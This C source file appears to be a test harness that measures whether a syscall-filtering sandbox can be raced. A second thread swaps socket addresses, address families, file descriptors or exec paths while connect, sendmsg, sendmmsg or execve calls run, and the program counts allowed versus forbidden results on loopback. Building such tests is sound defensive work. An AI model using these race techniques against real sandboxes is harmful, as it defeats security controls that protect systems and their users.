/* Time-of-check-to-time-of-use attacks: one thread makes a call again and again while another changes what it points
   to. Prints "tries allowed forbidden": how often the call was made, reached what is allowed, and what is not. After
   the word "control" it stops at the first success, and tries for half a minute: two processors that others use as well
   may not run both threads at a time for long. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { TRIES = 5000 };
static struct sockaddr_in good, bad;
static volatile struct sockaddr_in shared;
static volatile int stop, flipped, swap_family, swap_number;
static int first, second, target = 200;
static char path[4096], good_path[] = "/bin/true", bad_path[4096];
static volatile int swap_path;

static void *flip(void *unused) {
    (void)unused;
    for (unsigned i = 0; !stop; i++) {
        flipped = i > 1;
        if (swap_number) { dup2(i & 1 ? second : first, target); continue; }
        if (swap_path) { memcpy(path, i & 1 ? bad_path : good_path, i & 1 ? strlen(bad_path) + 1 : sizeof good_path); }
        else if (swap_family) { shared.sin_family = i & 1 ? AF_INET : AF_UNIX; }
        else { shared.sin_addr.s_addr = i & 1 ? bad.sin_addr.s_addr : good.sin_addr.s_addr; }
        for (volatile int pause = 0; pause < (int)(i * 7 % 3000); pause++) {}
    }
    return 0;
}

static int peer_is_bad(int fd) {
    struct sockaddr_in peer; socklen_t length = sizeof peer;
    if (getpeername(fd, (struct sockaddr *)&peer, &length)) return -1;
    return peer.sin_addr.s_addr == bad.sin_addr.s_addr;
}

static int receiver(struct sockaddr_in *at) {
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0); socklen_t length = sizeof *at;
    int room = 4 << 20;
    setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &room, sizeof room);
    if (bind(fd, (struct sockaddr *)at, sizeof *at) || getsockname(fd, (struct sockaddr *)at, &length)) exit(3);
    return fd;
}

static int drain(int fd) {
    char byte[64]; int count = 0;
    while (recv(fd, byte, sizeof byte, 0) > 0) count++;
    return count;
}

static int child(void *port) {
    char *arguments[] = {"program", port, 0};
    syscall(SYS_execve, path, arguments, (char *[]){0});
    _exit(errno == EACCES ? 13 : 14);
}

int main(int argc, char **argv) {
    int control = argc > 1 && !strcmp(argv[1], "control");
    argc -= control, argv += control;
    if (argc < 2) return 2;
    if (atoi(argv[1])) {
        /* Run in place of the allowed program: say so, as mark.c does, and in a copy too, which nobody has looked at. */
        if (fork() == 0) usleep(2000);
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
        to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        return sendto(socket(AF_INET, SOCK_DGRAM, 0), "mark", 4, 0, (struct sockaddr *)&to, sizeof to) == 4 ? 0 : 1;
    }
    const char *mode = argv[1];
    int allowed = 0, forbidden = 0;
    good.sin_family = bad.sin_family = AF_INET;
    good.sin_addr.s_addr = htonl(0x7f000001), bad.sin_addr.s_addr = htonl(0x7f000002);
    int good_receiver = receiver(&good);
    bad.sin_port = good.sin_port;
    int bad_receiver = receiver(&bad);
    memcpy((void *)&shared, &good, sizeof good);
    struct sockaddr *address = (struct sockaddr *)&shared;
    struct iovec piece = {"x", 1};
    struct mmsghdr many = {.msg_hdr = {.msg_name = address, .msg_namelen = sizeof good, .msg_iov = &piece, .msg_iovlen = 1}};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (!strcmp(mode, "family")) { memcpy((void *)&shared, &bad, sizeof bad); swap_family = 1; }
    if (!strcmp(mode, "dup2")) {
        swap_number = 1;
        first = socket(AF_UNIX, SOCK_DGRAM, 0), second = fd;
        memcpy((void *)&shared, &bad, sizeof bad);
    }
    if (!strcmp(mode, "exec")) { swap_path = 1; snprintf(bad_path, sizeof bad_path, "%s", argv[2]); strcpy(path, good_path); }
    pthread_t thread;
    pthread_create(&thread, 0, flip, 0);
    char port[16]; snprintf(port, sizeof port, "%d", ntohs(good.sin_port));
    static char stack[65536];
    int tries = swap_path ? TRIES / 10 : TRIES, i = 0;
    time_t until = time(0) + 30;
    while (!flipped) sched_yield();
    for (; control ? !forbidden && time(0) < until : i < tries; i++) {
        if (!strcmp(mode, "connect") || swap_family) {
            int one = socket(AF_INET, SOCK_DGRAM, 0);
            if (!syscall(SYS_connect, one, address, sizeof good)) { if (peer_is_bad(one)) forbidden++; else allowed++; }
            close(one);
        } else if (swap_number) {
            if (!syscall(SYS_connect, target, address, sizeof good)) forbidden++;
        } else if (!strcmp(mode, "sendto")) {
            syscall(SYS_sendto, fd, "x", 1, 0, address, sizeof good);
        } else if (!strcmp(mode, "sendmsg")) {
            syscall(SYS_sendmsg, fd, &many.msg_hdr, 0);
        } else if (!strcmp(mode, "sendmmsg")) {
            syscall(SYS_sendmmsg, fd, &many, 1, 0);
        } else if (swap_path) {
            int status, pid = clone(child, stack + sizeof stack, CLONE_VM | CLONE_VFORK | SIGCHLD, port);
            if (pid > 0) waitpid(pid, &status, 0);
        }
        if (i % 64 == 0) {
            sched_yield(); /* to the other thread, where there is one processor for both */
            *(swap_path ? &forbidden : &allowed) += drain(good_receiver);
            forbidden += drain(bad_receiver);
        }
    }
    stop = 1;
    pthread_join(thread, 0);
    usleep(50000);
    *(swap_path ? &forbidden : &allowed) += drain(good_receiver);
    forbidden += drain(bad_receiver);
    printf("%d %d %d\n", i, allowed, forbidden);
    return 0;
}
